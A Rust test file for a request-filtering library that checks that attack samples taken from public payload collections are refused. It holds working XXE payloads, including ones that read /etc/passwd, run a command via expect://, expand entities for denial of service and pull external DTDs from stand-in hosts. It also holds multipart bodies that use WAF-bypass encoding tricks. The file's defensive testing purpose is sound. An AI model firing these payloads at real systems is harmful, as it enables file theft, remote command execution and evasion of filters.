//! Samples of attacks that others collected: each is refused, or means the same before and after it was written again.
//!
//! Sources: swisskyrepo/PayloadsAllTheThings `XXE Injection` at f9fa514 (MIT); wallarm/gotestwaf `testcases` at 67dfd7a (MIT);
//! coreruleset/coreruleset `REQUEST-922-MULTIPART-ATTACK` at 2cbd1d0 (Apache-2.0); sa-akhavani/waffled `bypass-database` at 0d7eee7
//! (MIT); nst/JSONTestSuite `test_parsing` at 1ef36fa (MIT). The whole collections are run where `SCOPEGATE_CORPORA` names them.

use super::{JSON, XML, at, forwarded, post, values};
use scopegate::model::Reason;
use scopegate::request::Dialect;

/// PayloadsAllTheThings, gotestwaf.
const XXE: [&str; 16] = [
    "<?xml version=\"1.0\"?><!DOCTYPE data [<!ELEMENT data (#ANY)><!ENTITY file SYSTEM \"file:///etc/passwd\">]><data>&file;</data>",
    "<!DOCTYPE test [ <!ENTITY % init SYSTEM \"data://text/plain;base64,ZmlsZTovLy9ldGMvcGFzc3dk\"> %init; ]><foo/>",
    "<!DOCTYPE replace [<!ENTITY xxe SYSTEM \"php://filter/convert.base64-encode/resource=index.php\"> ]><contacts>&xxe;</contacts>",
    "<!DOCTYPE data [<!ENTITY a0 \"dos\" ><!ENTITY a1 \"&a0;&a0;\"><!ENTITY a2 \"&a1;&a1;\">]><data>&a2;</data>",
    "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><!DOCTYPE xxe [<!ENTITY foo \"aaaaaa\">]><root>&foo;</root>",
    "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><test></test>",
    "<?xml version=\"1.0\"?><!DOCTYPE change-log[ <!ENTITY myEntity \"World\"> ]><change-log><text>Hello &myEntity;</text></change-log>",
    "<!DOCTYPE data SYSTEM \"http://publicServer.test/parameterEntity_oob.dtd\"><data>&send;</data>",
    "<!DOCTYPE x SYSTEM \"//x/x\" > <x>a</x>",
    "<!DOCTYPE x [ <!ENTITY % y SYSTEM \"//y/y\" > %y; ]><x>a</x>",
    "<!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM \"expect://id\">]><foo>&xxe;</foo>",
    "<x xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://xxe.test/\"/>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE x [<!ENTITY % xxe PUBLIC \"any_text\" \"http://evil.test/evil.dtd\">%xxe;]><root>&xxe;</root>",
    "<!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY data SYSTEM \"netdoc:/etc/passwd\">]><foo>&data;</foo>",
    "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ELEMENT foo ANY +AD4",
    "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
];

#[test]
fn a_document_that_reaches_out_is_refused() {
    let dialect = Dialect::default();
    for body in XXE {
        assert!(post("/", XML, body.as_bytes(), &dialect).is_err(), "{body}");
        let soap = [("Content-Type", "application/soap+xml")];
        assert!(post("/", &soap, body.as_bytes(), &dialect).is_err(), "{body}");
    }
}

/// A boundary and a body with `denied` in the field `field`: CRS 922110 to 922130, Waffled.
const MULTIPART: [(&str, &str); 12] = [
    (
        "XX",
        "--XX\r\nContent-Disposition: form-data; name=\"field\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+AGQ-enied\r\n--XX--",
    ),
    (
        "XX",
        "--XX\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nx\r\n--XX\r\nContent-Disposition: form-data; name=\"field\"\r\nContent-Type: text/plain; charset=utf-16\r\n\r\ndenied\r\n--XX--",
    ),
    (
        "XX",
        "--XX\r\nContent-Disposition: form-data; name=\"field\"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nd=65nied\r\n--XX--",
    ),
    (
        "XX",
        "--XX\r\nContent-Disposition: form-data; name=\"field\"\r\nContent-Transfer-Encoding: base64\r\n\r\nZGVuaWVk\r\n--XX--",
    ),
    ("XX", "--XX\r\nContent-Disposition: form-data;\x0b name=\"field\"\r\n\r\ndenied\r\n--XX--"),
    (
        "XX",
        "--XX\r\nContent-Disposition: form-data; name=\"field\"\r\nConten\0-Extra: something\r\n\r\ndenied\r\n--XX--",
    ),
    ("XX", "--XX\r\nContent-Disposition: form-da\0a; name=\"field\"\r\n\r\ndenied\r\n--XX--"),
    (
        "XX",
        "--XX\r\nContent-Disposition: form-data; name=\"field\"\r\nContent-Type: tex\0t/plain;charset=UTF-8\r\n\r\ndenied\r\n--XX--",
    ),
    (
        "XX",
        "--XX\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nu\0tf-8\r\n--XX\r\nContent-Disposition: form-data; name=\"field\"\r\n\r\ndenied\r\n--XX--",
    ),
    (
        "XX; boundary*0=Y; boundary*1=Y",
        "--YY\r\nContent-Disposition: form-data; name=\"field\"\r\n\r\ndenied\r\n--YY--",
    ),
    (
        "XX",
        "--XX\r\nContent-Disposition: form-data; name=\"field\"; filename*0=\"a.\"; filename*1=\"php\"\r\n\r\ndenied\r\n--XX--",
    ),
    ("XX", "preamble\r\n--XX\r\nContent-Disposition: form-data; name=field\r\n\r\ndenied\r\n--XX--"),
];

#[test]
fn a_form_in_parts_that_hides_a_value_is_refused() {
    let dialect = Dialect::default();
    for (boundary, body) in MULTIPART {
        let kind = format!("multipart/form-data; boundary={boundary}");
        assert!(
            post("/", &[("Content-Type", kind.as_str())], body.as_bytes(), &dialect).is_err(),
            "{boundary} {body:?}"
        );
    }
}

/// JSONTestSuite: what must be refused, what may be, and what is plain.
const REFUSED: [&str; 20] = [
    "[1,]",
    "[\"\t\"]",
    "[1 true]",
    "{\"a\":\"b\"}/**/",
    "{\"a\":\"b\"}#",
    "[-01]",
    "[0e+]",
    "[1_000]",
    "{'a':0}",
    "{a: \"b\"}",
    "[\"\\x00\"]",
    "[\"\\ud800\"]",
    "[\"\\uDd1ea\"]",
    "[\"\\u0000\"]",
    "{\"a\":\"b\",\"a\":\"c\"}",
    "\u{feff}{}",
    "[NaN]",
    "[True]",
    "[\u{2060}]",
    "",
];

#[test]
fn json_that_readers_differ_on_is_refused() {
    let dialect = Dialect::default();
    for body in REFUSED.into_iter().filter(|body| !body.is_empty()) {
        assert_eq!(
            post("/", JSON, body.as_bytes(), &dialect).map(|_| ()).unwrap_err().reason(),
            Reason::MalformedBody,
            "{body}"
        );
    }
    for body in [&b"[\"\xe5\"]"[..], b"[\"\xed\xa0\x80\"]", b"[\"\xc0\xaf\"]", b"\xff\xfe[\0]\0"] {
        assert!(post("/", JSON, body, &dialect).is_err(), "{body:?}");
    }
}

#[test]
fn numbers_and_bare_values_are_kept_as_they_are_written() {
    let dialect = Dialect::default();
    for body in ["123456789012345678901234567890", "1.0", "1", "-0", "1E400", "0.1e-7", "true", "\"x\"", "null", "[]"] {
        let view = post("/", JSON, body.as_bytes(), &dialect).unwrap();
        assert_eq!(forwarded(&view).1, body, "{body}");
    }
    let view = post("/", JSON, br#"{"a":1.0,"b":1,"c":"\ud83d\ude00","d":[[1],[2]]}"#, &dialect).unwrap();
    assert_eq!(values(&view, &at("json", "/a", &dialect)), ["1.0"]);
    assert_eq!(values(&view, &at("json", "/b", &dialect)), ["1"]);
    assert_eq!(values(&view, &at("json", "/c", &dialect)), ["\u{1f600}"]);
    assert_eq!(values(&view, &at("json", "/d/*/0", &dialect)), ["1", "2"]);
}
